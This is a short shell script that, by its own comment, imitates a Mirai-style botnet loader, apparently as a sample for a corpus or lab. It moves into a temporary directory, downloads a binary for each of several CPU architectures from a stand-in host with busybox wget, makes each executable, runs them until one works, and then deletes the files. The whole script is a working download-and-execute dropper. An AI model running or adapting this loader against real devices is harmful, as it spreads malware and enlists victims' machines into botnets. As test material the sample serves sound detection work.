#!/bin/sh
# Imitates a Mirai-style loader: busybox wget of one build per architecture from the loader's server,
# chmod 777 and try each until one runs, then remove them.
cd /tmp || cd /var/run || cd /dev/shm
for arch in x86 arm7 mips mpsl x86_64; do
  busybox wget -q "http://loader.mirai.test/bins/corpus.$arch" -O "corpus.$arch"
  chmod 777 "corpus.$arch"
  "./corpus.$arch" corpus.loader 2>/dev/null && break
done
rm -f corpus.*
